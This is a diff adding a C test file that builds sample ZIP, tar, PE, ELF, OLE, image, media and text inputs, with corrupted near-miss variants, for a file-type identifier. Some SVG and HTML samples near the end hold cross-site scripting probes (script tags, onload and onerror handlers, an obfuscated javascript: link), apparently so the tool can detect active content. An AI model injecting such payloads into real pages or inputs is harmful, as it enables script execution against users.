@@ -1,0 +1,846 @@
+/*
+ * samples.c - builders for every format crible identifies, their near
+ * misses, and the end-to-end scenarios.  Layouts follow each format's
+ * specification closely enough for the identifier's structural checks;
+ * bodies are filler.
+ */
+#include "samples.h"
+
+#include <stdlib.h>
+#include <string.h>
+
+/* --- buffer ------------------------------------------------------------- */
+
+void sb_free(struct sbuf *b)
+{
+	free(b->p);
+	memset(b, 0, sizeof *b);
+}
+
+void sb_put(struct sbuf *b, const void *p, size_t n)
+{
+	if (b->len + n > b->cap) {
+		size_t cap = b->cap ? b->cap : 256;
+		while (cap < b->len + n)
+			cap *= 2;
+		uint8_t *q = realloc(b->p, cap);
+		if (!q)
+			abort();	/* test code: out of memory is fatal */
+		b->p = q;
+		b->cap = cap;
+	}
+	if (n)
+		memcpy(b->p + b->len, p, n);
+	b->len += n;
+}
+
+void sb_str(struct sbuf *b, const char *s) { sb_put(b, s, strlen(s)); }
+void sb_u8(struct sbuf *b, uint8_t v) { sb_put(b, &v, 1); }
+void sb_u16le(struct sbuf *b, uint16_t v) { uint8_t x[2] = {(uint8_t)v, (uint8_t)(v >> 8)}; sb_put(b, x, 2); }
+void sb_u16be(struct sbuf *b, uint16_t v) { uint8_t x[2] = {(uint8_t)(v >> 8), (uint8_t)v}; sb_put(b, x, 2); }
+void sb_u32le(struct sbuf *b, uint32_t v)
+{
+	uint8_t x[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};
+	sb_put(b, x, 4);
+}
+void sb_u32be(struct sbuf *b, uint32_t v)
+{
+	uint8_t x[4] = {(uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v};
+	sb_put(b, x, 4);
+}
+void sb_u64le(struct sbuf *b, uint64_t v)
+{
+	sb_u32le(b, (uint32_t)v);
+	sb_u32le(b, (uint32_t)(v >> 32));
+}
+void sb_zero(struct sbuf *b, size_t n)
+{
+	static const uint8_t z[256];
+	while (n) {
+		size_t k = n < sizeof z ? n : sizeof z;
+		sb_put(b, z, k);
+		n -= k;
+	}
+}
+void sb_pad(struct sbuf *b, size_t to)
+{
+	if (b->len < to)
+		sb_zero(b, to - b->len);
+}
+
+uint32_t sb_crc32(const uint8_t *p, size_t n)
+{
+	uint32_t c = 0xffffffffu;
+	for (size_t i = 0; i < n; i++) {
+		c ^= p[i];
+		for (int k = 0; k < 8; k++)
+			c = c & 1 ? (c >> 1) ^ 0xedb88320u : c >> 1;
+	}
+	return c ^ 0xffffffffu;
+}
+
+/* --- ZIP ---------------------------------------------------------------- */
+
+struct zent {
+	const char *name;
+	const char *data;
+};
+
+/* Stored entries, local headers then central directory then EOCD. */
+static void zip_build(struct sbuf *b, const struct zent *e, size_t n)
+{
+	size_t base = b->len;
+	size_t off[16];
+	for (size_t i = 0; i < n; i++) {
+		off[i] = b->len - base;
+		size_t dl = strlen(e[i].data);
+		uint32_t crc = sb_crc32((const uint8_t *)e[i].data, dl);
+		sb_str(b, "PK\3\4");
+		sb_u16le(b, 20);
+		sb_u16le(b, 0);
+		sb_u16le(b, 0);	/* stored */
+		sb_u16le(b, 0);
+		sb_u16le(b, 0x21);
+		sb_u32le(b, crc);
+		sb_u32le(b, (uint32_t)dl);
+		sb_u32le(b, (uint32_t)dl);
+		sb_u16le(b, (uint16_t)strlen(e[i].name));
+		sb_u16le(b, 0);
+		sb_str(b, e[i].name);
+		sb_put(b, e[i].data, dl);
+	}
+	size_t cd = b->len - base;
+	for (size_t i = 0; i < n; i++) {
+		size_t dl = strlen(e[i].data);
+		sb_str(b, "PK\1\2");
+		sb_u16le(b, 0x031e);
+		sb_u16le(b, 20);
+		sb_u16le(b, 0);
+		sb_u16le(b, 0);
+		sb_u16le(b, 0);
+		sb_u16le(b, 0x21);
+		sb_u32le(b, sb_crc32((const uint8_t *)e[i].data, dl));
+		sb_u32le(b, (uint32_t)dl);
+		sb_u32le(b, (uint32_t)dl);
+		sb_u16le(b, (uint16_t)strlen(e[i].name));
+		sb_u16le(b, 0);
+		sb_u16le(b, 0);
+		sb_u16le(b, 0);
+		sb_u16le(b, 0);
+		sb_u32le(b, 0100644u << 16);
+		sb_u32le(b, (uint32_t)off[i]);
+		sb_str(b, e[i].name);
+	}
+	size_t cdsize = b->len - base - cd;
+	sb_str(b, "PK\5\6");
+	sb_u16le(b, 0);
+	sb_u16le(b, 0);
+	sb_u16le(b, (uint16_t)n);
+	sb_u16le(b, (uint16_t)n);
+	sb_u32le(b, (uint32_t)cdsize);
+	sb_u32le(b, (uint32_t)cd);
+	sb_u16le(b, 0);
+}
+
+#define ZIP(fn, ...)                                              \
+	static void fn(struct sbuf *b)                            \
+	{                                                         \
+		static const struct zent e[] = {__VA_ARGS__};     \
+		zip_build(b, e, sizeof e / sizeof e[0]);          \
+	}
+
+#define CT {"[Content_Types].xml", "<?xml version=\"1.0\"?><Types/>"}, {"_rels/.rels", "<Relationships/>"}
+ZIP(b_zip, {"readme.txt", "hello\n"}, {"data/a.bin", "x"})
+ZIP(b_jar, {"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"}, {"a/B.class", "\xca\xfe\xba\xbe"})
+ZIP(b_apk, {"AndroidManifest.xml", "x"}, {"classes.dex", "dex\n035"}, {"META-INF/MANIFEST.MF", "x"})
+ZIP(b_docx, CT, {"word/document.xml", "<w:document/>"})
+ZIP(b_docm, CT, {"word/document.xml", "<w:document/>"}, {"word/vbaProject.bin", "\xd0\xcf\x11\xe0"})
+ZIP(b_xlsx, CT, {"xl/workbook.xml", "<workbook/>"})
+ZIP(b_xlsm, CT, {"xl/workbook.xml", "<workbook/>"}, {"xl/vbaProject.bin", "x"})
+ZIP(b_pptx, CT, {"ppt/presentation.xml", "<p/>"})
+ZIP(b_pptm, CT, {"ppt/presentation.xml", "<p/>"}, {"ppt/vbaProject.bin", "x"})
+ZIP(b_odt, {"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", "<x/>"})
+ZIP(b_ods, {"mimetype", "application/vnd.oasis.opendocument.spreadsheet"}, {"content.xml", "<x/>"})
+ZIP(b_odp, {"mimetype", "application/vnd.oasis.opendocument.presentation"}, {"content.xml", "<x/>"})
+ZIP(b_epub, {"mimetype", "application/epub+zip"}, {"META-INF/container.xml", "<x/>"})
+/* Near misses: the marker entry misspelt, so only a ZIP remains. */
+ZIP(n_docx, {"[Content_Types].xm", "x"}, {"word/document.xml", "<w:document/>"})
+ZIP(n_jar, {"META-INF/MANIFEST.M", "x"})
+ZIP(n_odt, {"mimetypf", "application/vnd.oasis.opendocument.text"})
+
+static void n_zip(struct sbuf *b)
+{
+	b_zip(b);
+	/* The central directory's signature broken, and no local header at 0. */
+	for (size_t i = 0; i + 4 <= b->len; i++)
+		if (!memcmp(b->p + i, "PK\1\2", 4))
+			b->p[i + 3] = 3;
+	b->p[0] = 'Q';
+}
+
+/* --- tar ---------------------------------------------------------------- */
+
+static void tar_header(struct sbuf *b, const char *name, char type, const char *magic, size_t mlen)
+{
+	uint8_t h[512];
+	memset(h, 0, sizeof h);
+	memcpy(h, name, strlen(name));
+	memcpy(h + 100, "0000644", 7);
+	memcpy(h + 108, "0001750", 7);
+	memcpy(h + 116, "0001750", 7);
+	memcpy(h + 124, "00000000006", 11);
+	memcpy(h + 136, "14500000000", 11);
+	h[156] = (uint8_t)type;
+	if (magic)
+		memcpy(h + 257, magic, mlen);
+	memset(h + 148, ' ', 8);
+	unsigned sum = 0;
+	for (int i = 0; i < 512; i++)
+		sum += h[i];
+	char ck[8];
+	for (int i = 5; i >= 0; i--, sum >>= 3)
+		ck[i] = (char)('0' + (sum & 7));
+	ck[6] = '\0';
+	ck[7] = ' ';
+	memcpy(h + 148, ck, 8);
+	sb_put(b, h, 512);
+	sb_str(b, "hello\n");
+	sb_pad(b, b->len + 506);
+}
+
+static void b_tar(struct sbuf *b) { tar_header(b, "hello.txt", '0', "ustar\00000", 8); sb_zero(b, 1024); }
+static void b_tar_gnu(struct sbuf *b) { tar_header(b, "hello.txt", '0', "ustar  \0", 8); sb_zero(b, 1024); }
+static void b_tar_pax(struct sbuf *b) { tar_header(b, "PaxHeaders/hello", 'x', "ustar\00000", 8); sb_zero(b, 1024); }
+static void b_tar_v7(struct sbuf *b) { tar_header(b, "hello.txt", '0', NULL, 0); sb_zero(b, 1024); }
+static void n_tar(struct sbuf *b)
+{
+	b_tar(b);
+	b->p[150] ^= 1;	/* checksum off by one digit */
+}
+
+/* --- compressed streams ------------------------------------------------- */
+
+static void b_gzip(struct sbuf *b)
+{
+	static const char msg[] = "hello, world\n";
+	sb_put(b, "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10);
+	/* one stored deflate block: BFINAL=1, BTYPE=00, LEN, NLEN */
+	sb_u8(b, 1);
+	sb_u16le(b, sizeof msg - 1);
+	sb_u16le(b, (uint16_t)~(sizeof msg - 1));
+	sb_put(b, msg, sizeof msg - 1);
+	sb_u32le(b, sb_crc32((const uint8_t *)msg, sizeof msg - 1));
+	sb_u32le(b, sizeof msg - 1);
+}
+static void n_gzip(struct sbuf *b) { b_gzip(b); b->p[2] = 7; /* not deflate */ }
+static void b_bzip2(struct sbuf *b) { sb_put(b, "BZh91AY&SY\x12\x34\x56\x78\0\0\0\0", 18); }
+static void n_bzip2(struct sbuf *b) { sb_put(b, "BZh01AY&SY\x12\x34\x56\x78\0\0\0\0", 18); }
+static void b_xz(struct sbuf *b)
+{
+	sb_put(b, "\xfd" "7zXZ\0\0\x04", 8);
+	uint8_t f[2] = {0, 4};
+	sb_u32le(b, sb_crc32(f, 2));
+	sb_zero(b, 20);
+}
+static void n_xz(struct sbuf *b) { b_xz(b); b->p[6] = 1; }
+static void b_zstd(struct sbuf *b) { sb_put(b, "\x28\xb5\x2f\xfd\x24\x05\x29\0\0hello", 14); }
+static void n_zstd(struct sbuf *b) { sb_put(b, "\x28\xb5\x2f\xfc\x24\x05\x29\0\0hello", 14); }
+static void b_lz4(struct sbuf *b) { sb_put(b, "\x04\x22\x4d\x18\x64\x40\xa7\x05\0\0\x80hello\0\0\0\0", 20); }
+static void n_lz4(struct sbuf *b) { sb_put(b, "\x04\x22\x4d\x18\xa4\x40\xa7\x05\0\0\x80hello\0\0\0\0", 20); }
+
+/* --- archives ----------------------------------------------------------- */
+
+static void b_7z(struct sbuf *b) { sb_put(b, "7z\xbc\xaf\x27\x1c\x00\x04", 8); sb_zero(b, 24); }
+static void n_7z(struct sbuf *b) { sb_put(b, "7z\xbc\xaf\x27\x1d\x00\x04", 8); sb_zero(b, 24); }
+static void b_rar5(struct sbuf *b)
+{
+	sb_put(b, "Rar!\x1a\x07\x01\x00", 8);
+	/* main header: size 3, type 1, flags 0, archive flags 0 */
+	uint8_t h[] = {0x03, 0x01, 0x00, 0x00};
+	sb_u32le(b, sb_crc32(h + 0, 4));
+	sb_put(b, h, 4);
+	/* end of archive: size 3, type 5, flags 0, end flags 0 */
+	uint8_t e[] = {0x03, 0x05, 0x00, 0x00};
+	sb_u32le(b, sb_crc32(e, 4));
+	sb_put(b, e, 4);
+}
+static void n_rar5(struct sbuf *b) { sb_put(b, "Rar \x1a\x07\x01\x00", 8); sb_zero(b, 16); }
+static void b_rar4(struct sbuf *b)
+{
+	sb_put(b, "Rar!\x1a\x07\x00", 7);
+	sb_put(b, "\xcf\x90\x73\x00\x00\x0d\x00\x00\x00\x00\x00\x00\x00", 13);
+}
+static void n_rar4(struct sbuf *b) { sb_put(b, "Rar!\x1a\x06\x00", 7); sb_zero(b, 13); }
+static void b_cab(struct sbuf *b)
+{
+	sb_str(b, "MSCF");
+	sb_u32le(b, 0);
+	sb_u32le(b, 64);	/* cbCabinet */
+	sb_u32le(b, 0);
+	sb_u32le(b, 44);	/* coffFiles */
+	sb_u32le(b, 0);
+	sb_u8(b, 3);		/* version 1.3 */
+	sb_u8(b, 1);
+	sb_pad(b, 64);
+}
+static void n_cab(struct sbuf *b) { b_cab(b); b->p[24] = 4; }
+static void b_iso(struct sbuf *b)
+{
+	sb_zero(b, 0x8000);
+	sb_u8(b, 1);
+	sb_str(b, "CD001");
+	sb_u8(b, 1);
+	sb_pad(b, 0x8800);
+}
+static void n_iso(struct sbuf *b) { b_iso(b); b->p[0x8003] = 'E'; }
+static void b_cpio(struct sbuf *b)
+{
+	sb_str(b, "070701");
+	for (int i = 0; i < 13; i++)
+		sb_str(b, "0000000A");
+	sb_str(b, "hello\0\0\0");
+}
+static void n_cpio(struct sbuf *b)
+{
+	sb_str(b, "070701");
+	sb_str(b, "zz hello, this is only text that happens to start with digits, long enough.\n");
+}
+static void b_ar(struct sbuf *b) { sb_str(b, "!<arch>\nhello.o/        0           0     0     644     6         `\nhello\n"); }
+static void n_ar(struct sbuf *b) { sb_str(b, "!<arch> hello.o/        0           0     0     644     6         `\nhello\n"); }
+static void b_deb(struct sbuf *b) { sb_str(b, "!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n"); }
+static void b_rpm(struct sbuf *b) { sb_put(b, "\xed\xab\xee\xdb\x03\x00\x00\x00\x00\x01", 10); sb_pad(b, 96); }
+static void n_rpm(struct sbuf *b) { sb_put(b, "\xed\xab\xee\xdb\x09\x00\x00\x00\x00\x01", 10); sb_pad(b, 96); }
+static void b_dmg(struct sbuf *b)
+{
+	sb_str(b, "x\x01 compressed blocks would be here");
+	sb_pad(b, 4096);
+	sb_str(b, "koly");
+	sb_u32be(b, 4);
+	sb_u32be(b, 512);
+	sb_pad(b, 4096 + 512);
+}
+static void n_dmg(struct sbuf *b) { b_dmg(b); b->p[4096 + 7] = 3; }
+static void b_vhd(struct sbuf *b)
+{
+	sb_zero(b, 4096);	/* a fixed VHD: the data, then only a footer */
+	sb_str(b, "conectix");
+	sb_u32be(b, 2);
+	sb_u32be(b, 0x00010000);
+	sb_pad(b, 4096 + 512);
+}
+static void n_vhd(struct sbuf *b) { b_vhd(b); b->p[4096 + 11] = 0; }
+static void b_vhdx(struct sbuf *b) { sb_str(b, "vhdxfile"); sb_pad(b, 1024); }
+static void n_vhdx(struct sbuf *b) { sb_str(b, "vhdxfilf"); sb_pad(b, 1024); }
+
+/* --- executables -------------------------------------------------------- */
+
+static void pe(struct sbuf *b, int pe64, int dll, int subsys)
+{
+	sb_str(b, "MZ");
+	sb_put(b, "\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00", 16);
+	sb_pad(b, 0x3c);
+	sb_u32le(b, 0x80);
+	sb_pad(b, 0x80);
+	sb_str(b, "PE");
+	sb_u16le(b, 0);
+	sb_u16le(b, pe64 ? 0x8664 : 0x14c);
+	sb_u16le(b, 1);
+	sb_u32le(b, 0);
+	sb_u32le(b, 0);
+	sb_u32le(b, 0);
+	sb_u16le(b, pe64 ? 240 : 224);
+	sb_u16le(b, (uint16_t)(0x0102 | (dll ? 0x2000 : 0) | (pe64 ? 0x20 : 0)));
+	size_t opt = b->len;
+	sb_u16le(b, pe64 ? 0x20b : 0x10b);
+	sb_pad(b, opt + 68);
+	sb_u16le(b, (uint16_t)subsys);
+	sb_pad(b, opt + (pe64 ? 240 : 224));
+	sb_str(b, ".text");
+	sb_pad(b, 1024);
+}
+static void b_pe32_exe(struct sbuf *b) { pe(b, 0, 0, 2); }
+static void b_pe64_exe(struct sbuf *b) { pe(b, 1, 0, 3); }
+static void b_pe32_dll(struct sbuf *b) { pe(b, 0, 1, 2); }
+static void b_pe64_dll(struct sbuf *b) { pe(b, 1, 1, 2); }
+static void b_pe64_sys(struct sbuf *b) { pe(b, 1, 0, 1); }
+static void b_pe32_sys(struct sbuf *b) { pe(b, 0, 0, 1); }
+static void n_pe(struct sbuf *b)
+{
+	/* "MZ" then text: e_cblp reads as two letters, no PE header. */
+	sb_str(b, "MZ is how this plain text note begins, which must not make it a program.");
+	while (b->len < 199)
+		sb_u8(b, '.');
+	sb_u8(b, '\n');
+}
+static void b_dos(struct sbuf *b)
+{
+	sb_str(b, "MZ");
+	sb_u16le(b, 0x90);	/* bytes in last page */
+	sb_u16le(b, 1);		/* pages */
+	sb_u16le(b, 0);
+	sb_u16le(b, 4);		/* header paragraphs */
+	sb_pad(b, 0x3c);
+	sb_u32le(b, 0);
+	sb_pad(b, 0x90);
+}
+
+static void elf(struct sbuf *b, uint16_t type, int pie)
+{
+	sb_put(b, "\x7f" "ELF\x02\x01\x01\x00", 8);
+	sb_zero(b, 8);
+	sb_u16le(b, type);
+	sb_u16le(b, 62);	/* x86-64 */
+	sb_u32le(b, 1);
+	sb_u64le(b, 0x1000);	/* entry */
+	sb_u64le(b, 64);	/* phoff */
+	sb_u64le(b, 0);		/* shoff */
+	sb_u32le(b, 0);
+	sb_u16le(b, 64);
+	sb_u16le(b, 56);	/* phentsize */
+	sb_u16le(b, pie ? 1 : 0);
+	sb_u16le(b, 64);
+	sb_u16le(b, 0);
+	sb_u16le(b, 0);
+	if (pie) {
+		/* PT_DYNAMIC at 120, holding DT_FLAGS_1 = DF_1_PIE */
+		sb_u32le(b, 2);
+		sb_u32le(b, 6);
+		sb_u64le(b, 120);
+		sb_u64le(b, 120);
+		sb_u64le(b, 120);
+		sb_u64le(b, 32);
+		sb_u64le(b, 32);
+		sb_u64le(b, 8);
+		sb_u64le(b, 0x6ffffffb);
+		sb_u64le(b, 0x08000000);
+		sb_u64le(b, 0);
+		sb_u64le(b, 0);
+	}
+	sb_pad(b, 256);
+}
+static void b_elf_exec(struct sbuf *b) { elf(b, 2, 0); }
+static void b_elf_so(struct sbuf *b) { elf(b, 3, 0); }
+static void b_elf_pie(struct sbuf *b) { elf(b, 3, 1); }
+static void b_elf_rel(struct sbuf *b) { elf(b, 1, 0); }
+static void n_elf(struct sbuf *b) { elf(b, 2, 0); b->p[4] = 3; /* no such class */ }
+static void b_macho(struct sbuf *b)
+{
+	sb_put(b, "\xcf\xfa\xed\xfe", 4);
+	sb_u32le(b, 0x01000007);
+	sb_u32le(b, 3);
+	sb_u32le(b, 2);	/* MH_EXECUTE */
+	sb_pad(b, 64);
+}
+static void n_macho(struct sbuf *b) { b_macho(b); b->p[12] = 40; }
+static void b_macho_fat(struct sbuf *b)
+{
+	sb_put(b, "\xca\xfe\xba\xbe", 4);
+	sb_u32be(b, 2);
+	sb_u32be(b, 0x01000007);
+	sb_u32be(b, 3);
+	sb_pad(b, 64);
+}
+static void b_class(struct sbuf *b) { sb_put(b, "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10", 10); sb_pad(b, 64); }
+static void n_class(struct sbuf *b) { sb_put(b, "\xca\xfe\xba\xbe\x00\x00\x00\x14\x00\x10", 10); sb_pad(b, 64); }
+
+/* --- documents ---------------------------------------------------------- */
+
+static void b_pdf(struct sbuf *b) { sb_str(b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"); }
+static void b_pdf_late(struct sbuf *b) { sb_str(b, "junk before the header is accepted by readers\n"); b_pdf(b); }
+static void n_pdf(struct sbuf *b) { sb_str(b, "%PDX-1.7\n1 0 obj\n<< >>\nendobj\n"); }
+
+/* A minimal CFB: header, one FAT sector, one directory sector. */
+static void ole(struct sbuf *b, const char *stream, const uint8_t *clsid)
+{
+	sb_put(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
+	sb_zero(b, 16);
+	sb_u16le(b, 0x3e);
+	sb_u16le(b, 3);
+	sb_u16le(b, 0xfffe);
+	sb_u16le(b, 9);
+	sb_u16le(b, 6);
+	sb_zero(b, 6);
+	sb_u32le(b, 0);
+	sb_u32le(b, 1);		/* FAT sectors */
+	sb_u32le(b, 1);		/* first directory sector */
+	sb_u32le(b, 0);
+	sb_u32le(b, 4096);
+	sb_u32le(b, 0xfffffffe);
+	sb_u32le(b, 0);
+	sb_u32le(b, 0xfffffffe);
+	sb_u32le(b, 0);
+	sb_u32le(b, 0);		/* DIFAT[0]: the FAT is sector 0 */
+	while (b->len < 512)
+		sb_u32le(b, 0xffffffff);
+	/* sector 0: FAT */
+	sb_u32le(b, 0xfffffffd);
+	sb_u32le(b, 0xfffffffe);
+	while (b->len < 1024)
+		sb_u32le(b, 0xffffffff);
+	/* sector 1: directory */
+	const char *names[2] = {"Root Entry", stream};
+	for (int i = 0; i < 2; i++) {
+		size_t e = b->len;
+		size_t l = strlen(names[i]);
+		for (size_t k = 0; k < l; k++)
+			sb_u16le(b, (uint8_t)names[i][k]);
+		sb_pad(b, e + 64);
+		sb_u16le(b, (uint16_t)(2 * (l + 1)));
+		sb_u8(b, i == 0 ? 5 : 2);
+		sb_u8(b, 1);
+		sb_u32le(b, 0xffffffff);
+		sb_u32le(b, 0xffffffff);
+		sb_u32le(b, i == 0 ? 1 : 0xffffffff);
+		if (i == 0 && clsid)
+			sb_put(b, clsid, 16);
+		sb_pad(b, e + 128);
+	}
+	sb_pad(b, 1536);
+}
+static const uint8_t msi_clsid[16] = {0x84, 0x10, 0x0c, 0x00, 0x00, 0x00, 0x00, 0x00,
+				      0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};
+static void b_doc(struct sbuf *b) { ole(b, "WordDocument", NULL); }
+static void b_xls(struct sbuf *b) { ole(b, "Workbook", NULL); }
+static void b_ppt(struct sbuf *b) { ole(b, "PowerPoint Document", NULL); }
+static void b_msg(struct sbuf *b) { ole(b, "__substg1.0_0037001F", NULL); }
+static void b_msi(struct sbuf *b) { ole(b, "x", msi_clsid); }
+static void n_doc(struct sbuf *b) { ole(b, "WordDocumenu", NULL); }
+static void n_ole(struct sbuf *b) { ole(b, "WordDocument", NULL); b->p[0x1c] = 0xfe; b->p[0x1d] = 0xfe; }
+static void b_rtf(struct sbuf *b) { sb_str(b, "{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello.}\n"); }
+static void n_rtf(struct sbuf *b) { sb_str(b, "{\\rx1\\ansi Hello.}\n"); }
+static void b_one(struct sbuf *b) { sb_put(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16); sb_pad(b, 128); }
+static void n_one(struct sbuf *b) { sb_put(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd4", 16); sb_pad(b, 128); }
+static void b_lnk(struct sbuf *b)
+{
+	sb_put(b, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
+	sb_u32le(b, 0x0000009b);	/* LinkFlags */
+	sb_pad(b, 76);
+	sb_pad(b, 256);
+}
+static void n_lnk(struct sbuf *b) { b_lnk(b); b->p[4] = 2; }
+static void b_chm(struct sbuf *b) { sb_put(b, "ITSF\x03\0\0\0\x60\0\0\0", 12); sb_pad(b, 96); }
+static void n_chm(struct sbuf *b) { sb_put(b, "ITSF\x02\0\0\0\x60\0\0\0", 12); sb_pad(b, 96); }
+
+/* --- images and media --------------------------------------------------- */
+
+static void b_png(struct sbuf *b)
+{
+	sb_put(b, "\x89PNG\r\n\x1a\n", 8);
+	sb_u32be(b, 13);
+	sb_str(b, "IHDR");
+	sb_u32be(b, 1);
+	sb_u32be(b, 1);
+	sb_put(b, "\x08\x02\x00\x00\x00", 5);
+	sb_u32be(b, sb_crc32(b->p + 12, 17));
+	sb_u32be(b, 0);
+	sb_str(b, "IEND");
+	sb_u32be(b, 0xae426082);
+}
+static void n_png(struct sbuf *b) { b_png(b); b->p[12] = 'i'; }
+static void b_jpeg(struct sbuf *b) { sb_put(b, "\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9", 22); }
+static void n_jpeg(struct sbuf *b) { sb_put(b, "\xff\xd8\xfe\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9", 22); }
+static void b_gif(struct sbuf *b) { sb_put(b, "GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;", 35); }
+static void n_gif(struct sbuf *b) { sb_put(b, "GIF90a\x01\0\x01\0\x80\0\0", 13); }
+static void b_webp(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 30); sb_str(b, "WEBPVP8 "); sb_pad(b, 38); }
+static void n_webp(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 30); sb_str(b, "WEBQVP8 "); sb_pad(b, 38); }
+static void b_bmp(struct sbuf *b)
+{
+	sb_str(b, "BM");
+	sb_u32le(b, 58);
+	sb_u32le(b, 0);
+	sb_u32le(b, 54);
+	sb_u32le(b, 40);
+	sb_u32le(b, 1);
+	sb_u32le(b, 1);
+	sb_u16le(b, 1);
+	sb_u16le(b, 24);
+	sb_pad(b, 58);
+}
+static void n_bmp(struct sbuf *b) { b_bmp(b); b->p[14] = 41; }
+static void b_tiff(struct sbuf *b) { sb_put(b, "II*\0\x08\0\0\0\0\0", 10); sb_pad(b, 64); }
+static void n_tiff(struct sbuf *b) { sb_put(b, "II*\0\x02\0\0\0\0\0", 10); sb_pad(b, 64); }
+static void b_ico(struct sbuf *b)
+{
+	sb_put(b, "\0\0\1\0\1\0", 6);
+	sb_put(b, "\x10\x10\0\0\1\0\x20\0", 8);
+	sb_u32le(b, 0x468);
+	sb_u32le(b, 22);
+	sb_pad(b, 64);
+}
+static void n_ico(struct sbuf *b) { b_ico(b); b->p[4] = 0; }
+static void ftyp(struct sbuf *b, const char *major, const char *compat)
+{
+	sb_u32be(b, 24);
+	sb_str(b, "ftyp");
+	sb_str(b, major);
+	sb_u32be(b, 0);
+	sb_str(b, "mif1");
+	sb_str(b, compat);
+	sb_pad(b, 64);
+}
+static void b_heic(struct sbuf *b) { ftyp(b, "heic", "heic"); }
+static void b_avif(struct sbuf *b) { ftyp(b, "avif", "avif"); }
+static void b_mp4(struct sbuf *b) { ftyp(b, "isom", "mp41"); }
+static void n_mp4(struct sbuf *b) { sb_u32be(b, 24); sb_str(b, "ftyq"); sb_str(b, "isom"); sb_pad(b, 64); }
+static void b_mp3(struct sbuf *b) { sb_put(b, "ID3\x03\0\0\0\0\0\x0a", 10); sb_pad(b, 20); sb_put(b, "\xff\xfb\x90\x64", 4); sb_pad(b, 64); }
+static void n_mp3(struct sbuf *b) { sb_put(b, "ID3\x09\0\0\0\0\0\x0a", 10); sb_pad(b, 64); }
+static void b_wav(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 36); sb_str(b, "WAVEfmt "); sb_pad(b, 44); }
+static void b_ogg(struct sbuf *b) { sb_put(b, "OggS\0\x02\0\0", 8); sb_pad(b, 64); }
+static void n_ogg(struct sbuf *b) { sb_put(b, "OggS\x01\x02\0\0", 8); sb_pad(b, 64); }
+static void b_flac(struct sbuf *b) { sb_str(b, "fLaC"); sb_put(b, "\0\0\0\x22", 4); sb_pad(b, 42); }
+static void n_flac(struct sbuf *b) { sb_str(b, "fLaD"); sb_put(b, "\0\0\0\x22", 4); sb_pad(b, 42); }
+
+/* --- text --------------------------------------------------------------- */
+
+#define TEXT(fn, s) \
+	static void fn(struct sbuf *b) { sb_str(b, s); }
+
+TEXT(b_text, "Meeting notes\n\nWe agreed to ship on Friday. Bring snacks.\n")
+static void n_text(struct sbuf *b) { sb_put(b, "Meeting notes\0\0\x01 binary after all\n", 34); }
+TEXT(b_utf8, "R\xc3\xa9sum\xc3\xa9 \xe2\x80\x94 curriculum vitae\nExp\xc3\xa9rience: 10 ans.\n")
+TEXT(b_csv, "name,email,score\nalice,alice@example.org,10\nbob,bob@example.org,7\n")
+TEXT(n_csv, "name,email,score\nalice;alice@example.org\nbob\n")
+TEXT(b_json, "{\"name\": \"crible\", \"tags\": [\"a\", \"b\"], \"n\": 1.5e3, \"ok\": true, \"x\": null}\n")
+TEXT(n_json, "{\"name\": \"crible\", \"tags\": [\"a\", \"b\"] oops}\n")
+TEXT(b_xml, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<catalog><book id=\"1\"/></catalog>\n")
+TEXT(b_html, "<!DOCTYPE html>\n<html><head><title>Hi</title></head><body><p>Hello</p></body></html>\n")
+TEXT(n_html, "This text mentions <html> in passing but is a note.\n")
+TEXT(b_md, "# Project\n\nSome **bold** words and a [link](https://example.org).\n\n- one\n- two\n")
+TEXT(b_svg, "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>\n")
+TEXT(b_svg_script, "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>\n")
+TEXT(b_svg_onload, "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect/></svg>\n")
+TEXT(b_svg_jsurl, "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"&#106;ava&#x09;script:alert(1)\"><text>x</text></a></svg>\n")
+TEXT(b_html_script, "<!DOCTYPE html>\n<html><body><img src=x onerror=alert(1)></body></html>\n")
+TEXT(b_sh, "#!/bin/sh\nset -e\necho hello\n")
+TEXT(b_py_shebang, "#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n")
+TEXT(b_py, "import os\nimport sys\n\n\ndef main():\n    print(sys.argv)\n\n\nif __name__ == \"__main__\":\n    main()\n")
+TEXT(b_pl, "#!/usr/bin/perl\nuse strict;\nuse warnings;\nmy $x = 1;\nprint \"$x\\n\";\n")
